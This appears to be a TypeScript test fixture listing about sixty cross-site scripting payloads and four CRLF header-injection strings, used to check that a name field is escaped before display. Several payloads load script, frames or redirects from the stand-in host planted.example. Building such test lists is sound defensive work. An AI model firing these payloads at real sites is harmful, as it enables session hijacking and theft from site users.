// What an attacker writes where a name is expected. Each would leave a mark if a browser took it for markup: it
// runs `planted()`, opens a dialog, or makes an element or attribute called "planted". All are one line.

export const payloads: readonly string[] = [
  // Scripts.
  '<script>planted(1)</script>',
  '<ScRiPt>planted(2)</sCrIpT>',
  '<script src=//planted.example/x.js></script>',
  '<script\u00a0planted>planted(3)</script\u00a0>',
  '<scr<script>ipt>planted(4)</scr</script>ipt>',
  '</title><script>planted(5)</script>',
  '</textarea></select></style><script>planted(6)</script>',
  '<noscript><p title="</noscript><img src=x onerror=planted(7)>">',
  '<!--><script>planted(8)</script-->',
  '--><script>planted(9)</script><!--',
  // Elements that run what their events say.
  '<img src=x onerror=planted(10)>',
  '<img/src=`x`onerror=planted(11)>',
  '<IMG """><SCRIPT>alert("planted")</SCRIPT>">',
  '<body onload=planted(12)>',
  '<input autofocus onfocus=planted(13)>',
  '<details open ontoggle=planted(14)>',
  '<video><source onerror=planted(15)></video>',
  '<audio src=x onerror=planted(16)>',
  '<marquee onstart=planted(17) planted>',
  '<a autofocus onfocus=planted(18) href="#">planted</a>',
  '<button popovertarget=planted onbeforetoggle=planted(19)>',
  '<div style="animation:planted" onanimationstart=planted(20)>',
  // Drawings and formulas.
  '<svg onload=planted(21)>',
  '<svg/onload=alert(/planted/)>',
  '<svg><script>planted(22)</script></svg>',
  '</text></svg><svg onload=planted(23)>',
  '<svg><animate onbegin=planted(24) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:planted(25)"><text>x</text></a>',
  '<svg><foreignObject><iframe planted srcdoc="<script>parent.planted(26)</script>">',
  '<math planted><mtext><table><mglyph><style><img src=x onerror=planted(27)>',
  '<math><maction actiontype="statusline#javascript:planted(28)" planted>x</maction></math>',
  '<math href="javascript:planted(29)" planted>x</math>',
  // Out of an attribute.
  '" onmouseover="planted(30)" planted="',
  "' onmouseover='planted(31)' planted='",
  '` onmouseover=`planted(32)` planted=`',
  '" autofocus onfocus=planted(33) x="',
  '"><img src=x onerror=planted(34)>',
  "'><svg onload=planted(35)>",
  '\\"><img planted>',
  'x" planted style="background:url(//planted.example/x)',
  // Addresses.
  'javascript:planted(36)',
  'JaVaScRiPt:planted(37)',
  'java&#9;script:planted(38)',
  'data:text/html,<script>planted(39)</script>',
  'vbscript:planted(40)',
  '//planted.example/%2e%2e',
  'https://planted.example/"onclick="planted(41)',
  // Frames, forms and what changes the page as a whole.
  '<iframe planted src="javascript:planted(42)"></iframe>',
  '<object planted data="data:text/html,<script>planted(43)</script>"></object>',
  '<embed planted src="//planted.example/x.swf">',
  '<base planted href="//planted.example/">',
  '<meta planted http-equiv="refresh" content="0;url=//planted.example/">',
  '<link planted rel=stylesheet href="//planted.example/x.css">',
  '<form planted action="//planted.example/"><button>x</button></form>',
  '<style planted>*{background:url(//planted.example/x)}</style>',
  // Entities, templates and tricks of Unicode.
  '&lt;script&gt;planted(44)&lt;/script&gt;&#60;img src=x onerror=planted(45)&#62;',
  '{{constructor.constructor("planted(46)")()}}${planted(47)}{@html "<img planted>"}',
  '\uff1cscript\uff1eplanted(48)\uff1c/script\uff1e\u2028<img src=x onerror=planted(49)>',
  '<![CDATA[<script>planted(50)</script>]]><?planted x?><x xmlns="planted" planted/>',
  '\u202e<img src=x onerror=planted(51)>\u202c+ADw-script+AD4-planted(52)+ADw-/script+AD4-',
];

/** In an address: what would begin a header, or a body, of its own. */
export const lineBreaks: readonly string[] = [
  '%0d%0aset-cookie:%20planted=1',
  '%0aplanted:%201',
  '%E5%98%8A%E5%98%8Dplanted:%201',
  '%0d%0a%0d%0a<script>planted()</script>',
];
